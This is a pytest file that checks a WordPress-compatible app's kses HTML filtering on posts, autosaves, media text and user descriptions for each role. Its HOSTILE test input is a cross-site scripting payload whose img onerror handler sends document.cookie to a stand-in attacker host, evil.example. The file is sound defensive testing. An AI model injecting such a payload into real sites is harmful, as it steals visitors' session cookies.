"""What HTML each role may store (kses, wpcompat/kses.py) through REST: posts, autosaves, media, users.

Authors, contributors and subscribers lack unfiltered_html, so what they save loses scripts, event
handlers and unsafe URLs, as in WordPress; editors and administrators save HTML as sent.
"""

from pathlib import Path

import pytest
from falcon import testing

from wpcompat.app import create_app
from wpcompat.db import tenant_scope
from wpcompat.models import Media, Revision, User

from media_files import image_bytes, multipart_upload

PUBLIC = "Como medir a pressão arterial em casa"          # published, by the author
HOSTILE = '<p>Leia <img src="x.png" onerror="fetch(`https://evil.example/?c=`+document.cookie)"></p>' \
          '<iframe src="https://evil.example/"></iframe><a href="javascript:steal()">aqui</a>'
CLEANED = '<p>Leia <img src="x.png"></p><a>aqui</a>'


def created(api, role, **fields):
    result = api("POST", "/wp/v2/posts", role, json={"status": "draft", **fields})
    assert result.status_code == 201, result.json
    return api("GET", f"/wp/v2/posts/{result.json['id']}", role, params={"context": "edit"}).json


@pytest.mark.parametrize("role", ["author", "contributor"])
def test_posts_by_writers_without_unfiltered_html_lose_scripts(api, role):
    post = created(api, role, title='Pressão <b>alta</b><script>x()</script>', content=HOSTILE,
                   excerpt='<p onmouseover="x()">Resumo</p>')
    assert post["title"]["raw"] == "Pressão <b>alta</b>x()"               # titles: the small set
    assert post["content"]["raw"] == CLEANED
    assert "onerror" not in post["content"]["rendered"] and "<iframe" not in post["content"]["rendered"]
    assert post["excerpt"]["raw"] == "<p>Resumo</p>"


@pytest.mark.parametrize("role", ["editor", "administrator"])
def test_editors_and_administrators_save_html_as_sent(api, role):
    post = created(api, role, title="Vídeo <script>embed()</script>", content=HOSTILE)
    assert post["content"]["raw"] == HOSTILE and post["title"]["raw"] == "Vídeo <script>embed()</script>"


def test_an_authors_gutenberg_post_is_stored_exactly_as_sent(api, clinic):
    blocks = (Path(__file__).parents[1] / "data" / "gutenberg-blocks.html").read_text(encoding="utf-8")
    blocks = blocks.replace("https://clinica.example", f"http://{clinic.host}")     # the PDF embed: this site
    post = created(api, "author", title="Hipertensão", content=blocks)
    assert post["content"]["raw"] == blocks


def test_an_update_by_the_author_is_filtered_too(api, clinic):
    post = clinic.post(PUBLIC)
    result = api("POST", f"/wp/v2/posts/{post.wp_id}", "author", json={"content": HOSTILE})
    assert result.status_code == 200 and result.json["content"]["raw"] == CLEANED


def test_an_authors_autosave_revision_is_filtered(api, clinic):
    post = clinic.post(PUBLIC)
    result = api("POST", f"/wp/v2/posts/{post.wp_id}/autosaves", "author", json={"content": HOSTILE})
    assert result.status_code == 200 and result.json["content"]["raw"] == CLEANED
    with tenant_scope(clinic.id):
        assert Revision.get(Revision.post == post.id, Revision.kind == "autosave").content == CLEANED


@pytest.fixture
def uploader(engine, app_database, clinic, tmp_path):
    return testing.TestClient(create_app(engine.settings(media_root=str(tmp_path / "uploads")), app_database))


def test_media_text_by_an_author_is_filtered_and_alt_text_is_plain(uploader, api, clinic):
    fields = [("title", "Raio-X <script>x()</script>"), ("caption", '<em>Tórax</em><img src=x onerror="x()">'),
              ("description", '<p style="color:red;position:fixed">Laudo</p>'), ("alt_text", "<b>Tórax</b>\nPA")]
    result = multipart_upload(uploader, clinic, clinic.auth("author"), image_bytes(), "torax.png", fields)
    assert result.status_code == 201, result.json
    body = api("GET", f"/wp/v2/media/{result.json['id']}", "author", params={"context": "edit"}).json
    assert body["title"]["raw"] == "Raio-X x()" and body["caption"]["raw"] == '<em>Tórax</em><img src="x">'
    assert body["description"]["raw"] == '<p style="color:red">Laudo</p>' and body["alt_text"] == "Tórax PA"
    updated = api("POST", f"/wp/v2/media/{body['id']}", "author",
                  json={"caption": '<a href="javascript:x()">ver</a>', "alt_text": "<i>frontal</i>"})
    assert updated.status_code == 200
    with tenant_scope(clinic.id):
        media = Media.get(Media.wp_id == body["id"])
    assert (media.caption, media.alt_text) == ("<a>ver</a>", "frontal")


def test_media_text_by_an_editor_keeps_its_html(uploader, clinic):
    fields = [("caption", '<iframe src="https://video.example/"></iframe>')]
    result = multipart_upload(uploader, clinic, clinic.auth("editor"), image_bytes(), "video.png", fields)
    assert result.status_code == 201 and result.json["caption"]["raw"] == fields[0][1]


@pytest.mark.parametrize("role", ["author", "administrator"])
def test_a_user_description_keeps_the_small_set_for_everyone(api, clinic, role):
    me = clinic.users[role]
    result = api("POST", "/wp/v2/users/me", role,
                 json={"description": '<p>Cardiologista, <a href="https://crm.example/1" onclick="x()">CRM</a></p>'
                                      '<img src=x onerror=alert(1)>'})
    assert result.status_code == 200, result.json
    with tenant_scope(clinic.id):
        assert User.get_by_id(me.id).description == 'Cardiologista, <a href="https://crm.example/1">CRM</a>'
